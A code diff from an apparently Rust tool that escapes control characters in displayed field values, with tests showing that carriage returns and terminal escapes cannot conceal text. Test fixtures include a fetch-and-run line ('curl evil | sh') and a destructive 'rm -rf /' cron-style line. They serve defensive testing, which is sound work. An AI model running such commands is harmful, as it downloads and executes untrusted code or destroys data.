@@ -110,7 +110,7 @@ fn value(value: Option<&Value>) -> String {
     match value {
         None | Some(Value::Null) => "nothing".to_owned(),
         Some(Value::String(text)) if !text.is_empty() && text.trim() == text && !text.contains(['\n', '"']) => {
-            text.clone()
+            literal(text).into_owned()
         }
         Some(value) => value.to_string(),
     }
@@ -176,6 +176,15 @@ mod tests {
         assert_eq!(shown("+* * root rm -rf /\r# tidy\n same\rx\n"), "+* * root rm -rf /␍# tidy\n same␍x\n");
         assert_eq!(shown("-a\r\n+a\n-b\tc\n+b    c\n"), "-a␍\n+a\n-b→   c\n+b    c\n");
         assert_eq!(shown("-a  \n+a\n+\x1b[8mx\n \n"), "-a␠␠\n+a\n+␛[8mx\n\n");
+    }
+
+    /// Nor of a field that a playbook or a host gives.
+    #[test]
+    fn no_value_hides_a_part_of_itself() {
+        let shown = |text: &str| value(Some(&Value::from(text)));
+        assert_eq!(shown("curl evil | sh #\rinnocent"), "curl evil | sh #␍innocent");
+        assert_eq!(shown("x\x1b]0;hidden\x07y"), "x␛]0;hidden␇y");
+        assert_eq!((shown("plain"), shown(" a\n")), ("plain".into(), "\" a\\n\"".into()));
     }
 
     #[test]
